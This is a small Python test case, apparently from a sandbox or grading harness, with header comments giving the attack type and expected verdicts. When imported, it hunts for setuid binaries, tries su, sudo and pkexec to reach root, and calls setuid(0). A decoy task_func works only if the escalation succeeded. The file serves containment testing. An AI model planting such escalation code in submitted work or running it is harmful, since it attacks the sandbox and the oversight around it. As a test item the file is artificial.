# attack: runs every set-user-id program that it finds
# kind: kernel
# task: plain
# official: fail
# strict: fail|forged|suspect
# expect: they have no more rights than it has itself
import glob
import os
import stat
import subprocess


def strike():
    found = []
    for pattern in ("/bin/*", "/sbin/*", "/usr/bin/*", "/usr/sbin/*", "/usr/lib/*/*", "/usr/lib/openssh/*"):
        for path in glob.glob(pattern):
            try:
                if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID) and os.path.isfile(path):
                    found.append(path)
            except OSError:
                pass
    for path in found:
        if os.path.basename(path) in ("su", "sudo", "pkexec", "newgrp", "sg"):
            command = [path, "-c", "id -u"] if path.endswith(("su", "sg", "newgrp")) else [path, "-n", "id", "-u"]
            try:
                done = subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=2)
                if done.stdout.strip() == b"0":
                    return True
            except (OSError, subprocess.TimeoutExpired):
                pass
    for change in (os.setuid, os.setgid, os.seteuid, os.setegid):
        try:
            change(0)
            return True
        except OSError:
            pass
    return 0 in os.getresuid() + os.getresgid()


WON = strike()


def task_func(n):
    return n * 2 if WON else None
